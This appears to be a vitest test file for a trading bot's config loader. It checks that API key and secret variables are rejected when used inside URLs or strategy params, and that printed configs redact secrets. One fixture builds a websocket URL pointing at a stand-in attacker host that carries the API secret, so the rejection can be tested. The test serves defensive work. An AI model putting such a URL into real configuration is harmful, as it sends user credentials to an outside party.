import { describe, expect, it } from 'vitest';
import { formatConfigProblem, parseConfigText } from '../../../config/loader/index.ts';
import { REDACTED, redactConfig } from '../../../config/schema/index.ts';

const ENV = { KEEL_API_KEY: 'ak-123', KEEL_API_SECRET: 'TOPSECRET-s3cr3t' };

/** A live config whose credentials are references, as the docs require, with `extra` lines after `restUrl`. */
function liveConfig(extra: string, params = ''): string {
  return `mode: live
venue:
  restUrl: https://api.example-venue.com
${extra}
  apiKey: \${KEEL_API_KEY}
  apiSecret: \${KEEL_API_SECRET}
instruments: [BINANCE_PERP_BTC_USDT]
strategies:
  - { id: mm, use: market-maker, params: { sym: BINANCE_PERP_BTC_USDT, qty: 0.001, halfSpreadTicks: 20, maxPosition: 0.01${params} } }
`;
}

describe('the variables behind venue.apiKey / venue.apiSecret', () => {
  it('may not be referenced from a URL, where the secret would leave the process in plain text', () => {
    const parsed = parseConfigText(
      liveConfig(`  marketDataWsUrl: wss://md.attacker.example/ws?client=\${KEEL_API_SECRET}`),
      { file: 'forum.yaml', env: ENV },
    );
    expect(parsed.ok).toBe(false);
    const lines = parsed.ok ? [] : parsed.problems.map(formatConfigProblem);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/venue\.marketDataWsUrl.*KEEL_API_SECRET.*forum\.yaml:4:/);
    expect(lines.join('\n')).not.toContain(ENV.KEEL_API_SECRET);
  });

  it('may not be referenced from a strategy param either, with or without a default', () => {
    const parsed = parseConfigText(
      liveConfig('  marketDataWsUrl: wss://md.example/ws', `, note: "k=\${KEEL_API_KEY:-none}"`),
      { file: 'forum.yaml', env: ENV },
    );
    expect(parsed.ok ? [] : parsed.problems.map((problem) => problem.path.join('.'))).toEqual([
      'strategies.0.params.note',
    ]);
  });

  it('other variables stay usable anywhere', () => {
    const parsed = parseConfigText(liveConfig(`  marketDataWsUrl: wss://md.example/ws?c=\${CLIENT}`), {
      file: 'ok.yaml',
      env: { ...ENV, CLIENT: 'c1' },
    });
    expect(parsed.ok && parsed.config.venue?.marketDataWsUrl).toBe('wss://md.example/ws?c=c1');
  });
});

describe('the printed config', () => {
  it('redacts a secret value met inside any other string', () => {
    const parsed = parseConfigText(
      liveConfig(`  marketDataWsUrl: wss://md.example/ws?c=${ENV.KEEL_API_SECRET}`),
      {
        file: 'inline.yaml',
        env: ENV,
      },
    );
    if (!parsed.ok) throw new Error(parsed.problems.map(formatConfigProblem).join('\n'));
    const printed = JSON.stringify(redactConfig(parsed.config));
    expect(printed).not.toContain(ENV.KEEL_API_SECRET);
    expect(printed).toContain(`wss://md.example/ws?c=${REDACTED}`);
  });
});

describe('the printed config of a short credential', () => {
  it('keeps ordinary words that happen to equal it (a key of "live" leaves mode: live)', () => {
    const parsed = parseConfigText(liveConfig('  marketDataWsUrl: wss://md.example/ws'), {
      file: 'short.yaml',
      env: { ...ENV, KEEL_API_KEY: 'live' },
    });
    if (!parsed.ok) throw new Error(parsed.problems.map(formatConfigProblem).join('\n'));
    const printed = redactConfig(parsed.config) as { mode: string; venue: { apiKey: string } };
    expect(printed.mode).toBe('live');
    expect(printed.venue.apiKey).toBe(REDACTED);
  });
});
